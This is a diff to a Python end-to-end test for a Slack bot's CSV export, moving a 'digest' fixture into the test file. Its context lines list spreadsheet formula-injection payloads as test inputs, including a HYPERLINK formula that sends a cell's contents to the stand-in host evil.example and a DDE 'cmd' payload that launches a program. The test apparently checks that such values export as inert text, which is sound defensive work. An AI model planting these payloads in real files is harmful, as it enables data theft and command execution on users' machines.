@@ -6,19 +6,24 @@ from __future__ import annotations
 import csv
 from datetime import date
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from bot.platform.timesource import ManualTime
 from emulator import SlackEmulator
-from tests.e2e.action_steps import action_values, click_take_on
+from tests.e2e.action_steps import action_values, click_take_on, first_digest
 from tests.e2e.conftest import ALICE, BOB, CHAMPION
-from tests.e2e.test_actions import digest  # noqa: F401  (the fixture: a week's digest with its Take this on)
 from tests.e2e.test_teams import run
 from tests.support.bot import BotUnderTest
 
 LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
 ATTACKS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "＝1+1"]
+
+
+@pytest.fixture
+def digest(bot: BotUnderTest, slack: SlackEmulator, clock: ManualTime) -> Any:
+    return first_digest(bot, slack, clock)
 
 
 def exported(monkeypatch: pytest.MonkeyPatch, slack: SlackEmulator, database_url: str, out: Path) -> Path:
@@ -35,7 +40,7 @@ def test_words_a_spreadsheet_would_run_are_exported_as_text(
     bot: BotUnderTest,
     slack: SlackEmulator,
     clock: ManualTime,
-    digest: object,  # noqa: F811
+    digest: object,
     database_url: str,
     tmp_path: Path,
     monkeypatch: pytest.MonkeyPatch,
